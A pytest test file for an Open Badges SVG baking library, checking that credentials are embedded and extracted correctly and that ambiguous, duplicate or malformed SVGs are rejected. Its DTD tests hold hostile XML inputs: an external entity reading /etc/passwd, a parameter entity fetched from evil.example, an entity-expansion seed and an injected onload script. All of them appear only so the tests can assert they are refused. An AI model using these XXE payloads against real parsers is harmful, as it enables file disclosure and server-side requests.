"""Baking into SVG and out again; the rows M06 (DTD) and M08 (ambiguous credentials)."""

import pytest
from lxml import etree
from tests.unit.openbadge.baking import samples
from tests.unit.openbadge.baking.samples import CREDENTIAL

from openbadge.baking import svg
from openbadge.errors import OpenBadgeError, UnsupportedError

OB3 = 'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"'
OB2 = 'xmlns:openbadges="http://openbadges.org"'
JWS = b"eyJhbGciOiJFZERTQSJ9.e30.c2ln"


def code_of(data: bytes) -> str:
    with pytest.raises(OpenBadgeError) as caught:
        svg.unbake(data)
    return caught.value.code


def test_a_json_credential_goes_into_cdata_directly_after_the_root() -> None:
    baked = svg.bake(b'<svg viewBox="0 0 1 1"><g/></svg>', b'{"a":"<&"}')
    assert (
        baked
        == (
            f'<svg {OB3} viewBox="0 0 1 1">'
            '<openbadges:credential><![CDATA[{"a":"<&"}]]></openbadges:credential><g/></svg>'
        ).encode()
    )


def test_a_compact_jws_goes_into_the_attribute() -> None:
    baked = svg.bake(samples.svg(), JWS)
    assert b'<openbadges:credential verify="' + JWS + b'"></openbadges:credential>' in baked
    assert svg.unbake(baked).data == JWS


@pytest.mark.parametrize(
    "credential",
    [
        CREDENTIAL,
        JWS,
        b"https://a.example/1?x=1&y=%22",
        b'{"a":"]]>"}',
        b'{"a":\r\n1}',
        b" {}\n",
        '{"é":"𝔘"}'.encode(),
    ],
)
@pytest.mark.parametrize("generation", ["3.0", "2.0"])
@pytest.mark.parametrize(
    "drawing",
    [
        samples.svg(),
        b"<svg/>",
        b"\xef\xbb\xbf<svg></svg>",
        b"<?xml version='1.0' encoding='UTF-8'?>\n<!-- > -->\n<svg a='>' b=\">\"><g/></svg>\n",
        b'<s:svg xmlns:s="http://www.w3.org/2000/svg"/>',
        samples.svg(root=f'{OB2} id="x"'),
        samples.svg(before='<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd">'),
    ],
)
def test_bake_then_unbake_gives_the_same_bytes(drawing: bytes, generation: str, credential: bytes) -> None:
    baked = svg.bake(drawing, credential, generation=generation)  # type: ignore[arg-type]
    assert svg.unbake(baked).data == credential
    assert svg.bake(baked, credential, generation=generation) == baked  # type: ignore[arg-type]
    assert etree.fromstring(baked)[0].tag.endswith("credential" if generation == "3.0" else "assertion")


def test_the_keyword_tells_the_generation() -> None:
    assert svg.unbake(svg.bake(samples.svg(), b"{}")).keyword == "openbadgecredential"
    assert svg.unbake(svg.bake(samples.svg(), b"{}", generation="2.0")).keyword == "openbadges"


def test_baking_again_replaces_the_credential_wherever_it_stood() -> None:
    old = f'<g/><openbadges:assertion {OB2} verify="https://a.example">{{}}</openbadges:assertion><g/>'
    assert svg.bake(samples.svg(old), b"{}") == svg.bake(samples.svg("<g/><g/>"), b"{}")
    alone = f'<g><openbadges:credential {OB3} verify="a.b.c" /></g>'
    assert svg.bake(samples.svg(alone), b"{}") == svg.bake(samples.svg("<g></g>"), b"{}")


def test_open_badges_2_with_the_address_beside_the_body() -> None:
    body = '\n <![CDATA[{"id":1}]]>\n'
    inside = f'<openbadges:assertion {OB2} verify="https://a.example/1">{body}</openbadges:assertion>'
    assert svg.unbake(samples.svg(inside)).text == '{"id":1}'


def test_open_badges_2_with_the_address_alone() -> None:
    inside = f'<openbadges:assertion {OB2} verify="https://a.example/1"/>'
    assert svg.unbake(samples.svg(inside)).text == "https://a.example/1"


def test_the_same_token_in_the_attribute_and_in_the_body_is_one_badge() -> None:
    """So the bakery of the backpacks (openbadges_bakery) writes a signed badge."""
    inside = f'<openbadges:assertion {OB2} verify="a.b.c"><![CDATA[a.b.c]]></openbadges:assertion>'
    assert svg.unbake(samples.svg(inside)).text == "a.b.c"
    assert code_of(samples.svg(inside.replace("[a.b.c]", "[a.b.d]"))) == "BAKE_DUPLICATE"


def test_a_body_without_cdata_is_read() -> None:
    assert (
        svg.unbake(
            samples.svg(f"<openbadges:credential {OB3}>{{&quot;a&quot;:1}}</openbadges:credential>")
        ).text
        == '{"a":1}'
    )


def test_utf16_is_read_and_not_written() -> None:
    text = svg.bake(samples.svg(), b'{"a":1}').decode()
    assert svg.unbake(text.encode("utf-16")).text == '{"a":1}'
    for drawing in ("<svg/>".encode("utf-16"), b"<?xml version='1.0' encoding='iso-8859-1'?><svg/>"):
        with pytest.raises(UnsupportedError) as caught:
            svg.bake(drawing, b"{}")
        assert caught.value.code == "BAKE_ENCODING"


@pytest.mark.parametrize("credential", [b"\x01{}", "{\ufffe}".encode(), b"", b"\xff"])
def test_what_xml_cannot_carry_is_not_baked(credential: bytes) -> None:
    with pytest.raises(OpenBadgeError) as caught:
        svg.bake(samples.svg(), credential)
    assert caught.value.code == "BAKE_TEXT"


ONE = f"<openbadges:credential {OB3}><![CDATA[{{}}]]></openbadges:credential>"


def test_m08_no_credential() -> None:
    assert code_of(samples.svg()) == "BAKE_NONE"
    assert code_of(samples.svg(f"<!-- {ONE} -->")) == "BAKE_NONE"
    assert code_of(samples.svg(f"<text><![CDATA[{ONE.replace(']]>', '')}]]></text>")) == "BAKE_NONE"
    assert code_of(samples.svg(f"<openbadges:credential {OB3}/>")) == "BAKE_TEXT"


@pytest.mark.parametrize(
    "inside",
    [
        ONE + ONE,
        ONE + f"<g>{ONE}</g>",
        ONE + f'<openbadges:assertion {OB2} verify="a.b.c"/>',
        f'<openbadges:credential {OB3} verify="a.b.c">{{}}</openbadges:credential>',
        ONE + '<openbadges:credential xmlns:openbadges="https://evil.example">{}</openbadges:credential>',
        ONE + '<x:credential xmlns:x="https://purl.imsglobal.org/ob/v3p0">{}</x:credential>',
    ],
)
def test_m08_two_credentials(inside: str) -> None:
    assert code_of(samples.svg(inside)) == "BAKE_DUPLICATE"


def test_m08_the_name_in_a_namespace_of_its_own() -> None:
    for uri in ("https://evil.example", "https://purl.imsglobal.org/spec/ob/v3p0", "http://openbadges.org"):
        inside = f'<openbadges:credential xmlns:openbadges="{uri}">{{}}</openbadges:credential>'
        assert code_of(samples.svg(inside)) == "BAKE_NAMESPACE"


@pytest.mark.parametrize(
    "body",
    [
        "<![CDATA[{]]><![CDATA[}]]>",
        "<![CDATA[{}]]>[]",
        "{<!-- x -->}",
        "{<?x y?>}",
        "<![CDATA[{}]]><g/>",
        "<openbadges:credential>{}</openbadges:credential>",
    ],
)
def test_m08_a_text_that_two_readers_read_differently(body: str) -> None:
    inside = f"<openbadges:credential {OB3}>{body}</openbadges:credential>"
    assert code_of(samples.svg(inside)) == "BAKE_AMBIGUOUS"


def test_m08_a_second_one_in_a_comment() -> None:
    drawing = samples.svg(f"<!-- {ONE} -->{ONE}")
    assert code_of(drawing) == "BAKE_AMBIGUOUS"
    with pytest.raises(OpenBadgeError) as caught:
        svg.bake(drawing, b"{}")
    assert caught.value.code == "BAKE_AMBIGUOUS"


ENTITIES = [
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd">%x;]>',
    '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
    "<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'alert(1)'>]>",
    "<!DOCTYPE svg [<!ELEMENT svg ANY>]>",
    '<!DOCTYPE svg [<!NOTATION n SYSTEM "x">]>',
]


@pytest.mark.parametrize("before", ENTITIES)
def test_m06_declarations_are_refused_in_every_door(before: str) -> None:
    drawing = samples.svg(before=before)
    for door in (svg.unbake, svg.clean, lambda data: svg.bake(data, b"{}")):
        with pytest.raises(OpenBadgeError) as caught:
            door(drawing)
        assert caught.value.code == "BAKE_DTD"


def test_m06_an_entity_of_an_outer_dtd_is_not_looked_up() -> None:
    drawing = samples.svg("<text>&x;</text>", before='<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">')
    assert code_of(drawing) in {"BAKE_DTD", "BAKE_XML"}


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"<svg",
        b"<svg></g>",
        b"<html/>",
        b"<svg>&nbsp;</svg>",
        b"<svg a:b='1'/>",
        b"<?xml version='1.0' encoding='x'?><svg/>",
    ],
)
def test_what_is_not_a_drawing(data: bytes) -> None:
    assert code_of(data) == "BAKE_XML"


def test_m07_depth_and_number_of_elements() -> None:
    assert code_of(samples.svg("<g>" * 250 + "</g>" * 250)) == "BAKE_TOO_COMPLEX"
    assert code_of(samples.svg("<g/>" * 20_001)) == "BAKE_TOO_COMPLEX"
    many = " ".join(f'a{number}="1"' for number in range(257))
    assert code_of(samples.svg(f"<g {many}/>")) == "BAKE_TOO_COMPLEX"
    assert code_of(samples.svg("<g/>" * 2_000_000)) == "BAKE_TOO_LARGE"
